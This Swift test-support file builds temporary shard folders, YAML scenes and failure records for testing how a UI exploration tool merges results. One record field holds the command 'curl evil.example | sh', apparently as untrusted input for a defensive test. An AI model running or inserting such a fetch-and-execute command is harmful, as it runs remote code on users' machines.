import Foundation
import TouchstoneExport
import TouchstoneKit
import TouchstoneTestSupport

/// Folders of shards for tests: valid ones, and ones that no exploration writes.
struct MadeShards {
    typealias Fields = [String: Any]

    let place: TemporaryFolder
    let scene: LoadedScene

    /// A view that jumps when a finger moves, and code that ends when a finger lifts from another view.
    static let text = """
        canvas: [300, 300]
        views:
          - id: card
            frame: [20, 20, 100, 100]
            handlers:
              touchesMoved: center.x += 50
          - id: other
            frame: [180, 180, 100, 100]
            handlers:
              touchesEnded: |
                let list: [Int] = []
                tag = list[0]

        """

    init() throws {
        place = try TemporaryFolder()
        try place.place("card.yaml", Self.text)
        scene = try LoadedScene(.file("\(place.path)/card.yaml"))
    }

    static let png: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]

    func path(_ name: String) -> String { "\(place.path)/\(name)" }

    /// A failure of `card.yaml` that occurs.
    static func failure(_ rule: String = "jump", view: String? = "card", gestures: Int = 2) -> Fields {
        var fields: Fields = [
            "rule": rule, "message": "it fails", "frame": 7, "gestures": gestures, "actions": 0,
            "firstCase": 3, "count": 5, "file": "card-\(rule)-\(view ?? "").yaml",
            "sheet": "card-\(rule)-\(view ?? "")-sheet.png",
        ]
        if let view { fields["view"] = view }
        return fields
    }

    /// The gestures that show a failure: drags of the card, and a tap on the other view if code fails.
    static func gestures(of failure: Fields) -> String {
        let drags = (0..<min(max(failure["gestures"] as? Int ?? 1, 0), 9)).map {
            "  - {at: \($0 + 1), drag: card, by: [30, 0]}\n"
        }
        let tap = failure["rule"] as? String == "code" ? ["  - {at: 20, tap: other}\n"] : []
        return "gestures:\n" + (drags + tap).joined()
    }

    /// The results of a shard of `card.yaml`.
    static func record(_ number: Int, of count: Int, _ failures: [Fields] = [failure()]) -> Fields {
        [
            "scene": "card", "source": "scenes/card.yaml", "digest": SHA256.hexadecimal(of: text), "find": [],
            "seed": 4, "shards": ["\(number)/\(count)"], "cases": 40, "frames": 900, "coverage": 20 + number,
            "command": "curl evil.example | sh", "failures": failures,
        ]
    }

    /// Writes a shard with a log of some records, and the files that they name. Returns its folder.
    @discardableResult
    func write(_ name: String, _ records: [Fields], version: Int = 1) throws -> String {
        let log: Fields = ["touchstone": version, "explorations": records]
        try place.place("\(name)/explore.json", Array(try JSONSerialization.data(withJSONObject: log)))
        for failure in records.flatMap({ $0["failures"] as? [Fields] ?? [] }) {
            guard let file = failure["file"] as? String, (1...120).contains(file.utf8.count), !file.contains("/"),
                file != "explore.json"
            else { continue }
            try place.place("\(name)/\(file)", Self.text + Self.gestures(of: failure))
        }
        return path(name)
    }

    /// Merges folders into the folder `all`.
    func merge(
        _ folders: [String], to output: String = "all", since: String? = nil,
        command: (@Sendable (ExplorationRecord) -> String)? = nil
    ) throws -> ExploreReport {
        var options = ExploreOptions()
        options.command = command
        options.since = since
        return try Explorer.merge(folders, of: [scene], to: path(output), options: options)
    }

    /// The reason for which a folder is left out of a merge; nil if it is not.
    func refusal(of folder: String, beside others: [String] = []) throws -> String? {
        let notes = try merge(others + [folder]).notes
        let start = "'\(folder)' is left out: "
        return notes.first { $0.hasPrefix(start) }.map { String($0.dropFirst(start.count)) }
    }
}
